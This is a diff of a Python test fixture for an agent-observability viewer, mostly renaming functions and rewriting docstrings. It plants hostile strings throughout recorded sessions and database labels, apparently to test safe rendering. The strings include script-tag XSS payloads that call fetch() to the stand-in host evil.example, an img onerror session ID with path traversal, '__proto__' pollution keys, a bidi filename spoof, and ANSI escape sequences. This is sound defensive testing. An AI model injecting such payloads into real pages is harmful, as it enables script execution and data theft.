@@ -1,7 +1,5 @@
-"""Words that want to run, to leave, or to mislead; and a store in which all of them stand wherever a word can stand.
-
-Through the recorder they come into whatever was said, and into names, of which it makes digests. What a recorder
-would refuse stands in the published file all the same: it may come from anybody.
+"""Texts that try to run scripts, to load other sites, or to mislead, and a store that contains them wherever a text is
+possible.
 """
 
 from __future__ import annotations
@@ -18,12 +16,12 @@ from agentobs.records.labels import Label
 from agentobs.sink import Record
 from agentobs.store.duckdb import generations
 from agentobs.store.duckdb.schema import SETTINGS
-from tests.browser.stories import Story, text, thinking
+from tests.browser.synthetic_sessions import SyntheticSession, text, thinking
 
 RUN = "window.hacked=1"
-"""What each of them would do if it ran."""
+"""The effect of each script if it ran."""
 AWAY = "http://evil.example"
-"""Where each of them would go if it could."""
+"""The URL that each link or image would load if it could."""
 CLOSING = f"</textarea></title></pre></script><script>{RUN};fetch('{AWAY}/a')</script>"
 TEXTS = {
     "script": f"<script>{RUN};fetch('{AWAY}/script')</script>",
@@ -45,40 +43,40 @@ TEXTS = {
     "bidi": "invoice\u202egnp.exe\u2066 \u200b\u200f\u2069 zero",
     "ansi": f"\x1b[31mred\x1b[0m \x1b]8;;{AWAY}\x07link\x1b]8;;\x07 \x9b2J\r\x08",
 }
-"""Each of them by its name."""
+"""The hostile texts, by name."""
 BROKEN = "before\x00after, half \ud83d of a pair, \ufffe\uffff, "
-"""What JSON can hold and text cannot."""
+"""Characters that JSON allows, but UTF-8 text does not."""
 EVERYTHING = BROKEN + "\n".join(TEXTS.values())
 LINE = 10_000_000
-"""Characters of the longest line."""
+"""The number of characters of the longest line."""
 LINES = 100_000
-"""Lines of the text with the most lines."""
+"""The number of lines of the text with the most lines."""
 END = "the very end of it"
-"""What stands behind all of a long text: whoever wants it must be able to get it."""
+"""The end of each long text; it must be in the download."""
 STRANGE_ID = f"x\"'><img src=x onerror={RUN}></p>/%2e%2e%2f?a=1&b#c/../d"
-"""The id of a session that no recorder made."""
+"""A session ID that a recorder would never create."""
 
 
-def tell_hostile(tell: Callable[[Record], None], at_ns: int) -> str:
-    """Tell sessions full of them; the one that is at length, by its id."""
+def record_hostile_sessions(tell: Callable[[Record], None], at_ns: int) -> str:
+    """Record sessions with hostile texts; return the ID of the session with long content."""
     for number, words in enumerate(TEXTS.values()):
-        _short(tell, number, words, at_ns + number * 10**12)
-    return _said(tell, at_ns - 10**12)
+        _short_session(tell, number, words, at_ns + number * 10**12)
+    return _long_session(tell, at_ns - 10**12)
 
 
-def _short(tell: Callable[[Record], None], number: int, words: str, at_ns: int) -> None:
-    """A session in whose every place one of the texts stands."""
+def _short_session(tell: Callable[[Record], None], number: int, words: str, at_ns: int) -> None:
+    """Record a session that contains one of the texts in every place."""
     tags = {"branch": words, "__proto__": words[:60]}
-    story = Story(tell, words, at_ns, model=words, system=words, seed=number, **tags)
+    story = SyntheticSession(tell, words, at_ns, model=words, system=words, seed=number, **tags)
     with story.interaction(words):
         _turn(story, words, words)
         story.turn(text(words), stop_reason=words, service_tier=words)
     story.end("failed" if number % 3 else "completed", "ValueError")
 
 
-def _said(tell: Callable[[Record], None], at_ns: int) -> str:
-    """A session that says everything, and says it at length; its id."""
-    story = Story(tell, "said-at-length", at_ns, seed=99)
+def _long_session(tell: Callable[[Record], None], at_ns: int) -> str:
+    """Record a session with all texts and long content; return its ID."""
+    story = SyntheticSession(tell, "said-at-length", at_ns, seed=99)
     with story.interaction(EVERYTHING):
         _turn(story, EVERYTHING, EVERYTHING)
         _turn(story, "lines", "\n".join(f"line {n} {RUN}" for n in range(LINES)) + END)
@@ -87,7 +85,7 @@ def _said(tell: Callable[[Record], None], at_ns: int) -> str:
     return story.end()
 
 
-def _turn(story: Story, words: str, result: str) -> None:
+def _turn(story: SyntheticSession, words: str, result: str) -> None:
     call = {
         "type": "tool_use",
         "id": story.call_id(),
@@ -95,20 +93,17 @@ def _turn(story: Story, words: str, result: str) -> None:
         "input": {words[:200]: words, "path": f"/tmp/{words}", "__proto__": {"polluted": words}},
     }
     story.turn(thinking(words), text(words), call, fails=("overloaded_error",))
-    story.results(story.run(call, result, is_error=True, waited=1.0, hook="audit"))
+    story.results(story.run_call(call, result, is_error=True, waited=1.0, hook="audit"))
 
 
 KEPT = {"kind", "lane", "query_source", "certainty", "source", "content", "signal"}
-"""Labels by which rows are found and joined: with other words in them nothing would be shown at all."""
+"""Labels that queries filter and join by. If they were changed, nothing would be shown."""
 KEPT_NAMES = {"span_starts"}
-"""Tables whose `name` says what time counts as; their `label` has the texts."""
+"""Tables whose `name` determines the category of time; only their `label` gets the texts."""
 
 
-def spoil(home: Home, but: str) -> None:
-    """Put the texts before every label of the published file, equal ones before equal labels, and into tags.
-
-    Of one session the labels stay as they are: what it says is enough.
-    """
+def add_to_labels(home: Home, but: str) -> None:
+    """Add the texts to all labels of the published file, consistently for equal labels, and to tags."""
     texts = [f"{words} " for words in TEXTS.values()]
     draft = home.path / "spoilt"
     shutil.copy(home.database, draft)
@@ -116,7 +111,7 @@ def spoil(home: Home, but: str) -> None:
     with duckdb.connect(str(draft), config=SETTINGS) as connection:
         for fact, table in facts.TABLES.items():
             for column in sorted(
-                _labels(fact) - KEPT - ({"name"} if table in KEPT_NAMES else set())
+                _label_columns(fact) - KEPT - ({"name"} if table in KEPT_NAMES else set())
             ):
                 connection.execute(
                     f"UPDATE {table} SET {column} = list_extract($texts, "
@@ -124,7 +119,7 @@ def spoil(home: Home, but: str) -> None:
                     f"WHERE {column} IS NOT NULL AND session_id <> $but",
                     {"texts": texts, "but": but},
                 )
-        # Each text is the name of one session.
+        # Each text is the name of a session.
         connection.execute(
             "UPDATE session_starts SET name = list_extract($texts, nr) || session_id FROM (SELECT session_id AS id, "
             "row_number() OVER (ORDER BY started_ns) AS nr FROM session_starts WHERE session_id <> $but) "
@@ -141,13 +136,13 @@ def spoil(home: Home, but: str) -> None:
             {"but": but},
         )
         connection.execute("CHECKPOINT")
-    generation = generations.glance(home)
+    generation = generations.quick_current(home)
     assert generation is not None
     with generations.locked(home, 10):
         generations.publish(home, draft, generation.facts_bytes, generation, generation.read)
 
 
-def _labels(fact: type) -> set[str]:
-    """The fields of a fact that hold labels."""
+def _label_columns(fact: type) -> set[str]:
+    """Return the fields of a fact that contain labels."""
     told = typing.get_type_hints(fact)
     return {name for name, kind in told.items() if Label in (kind, *typing.get_args(kind))}
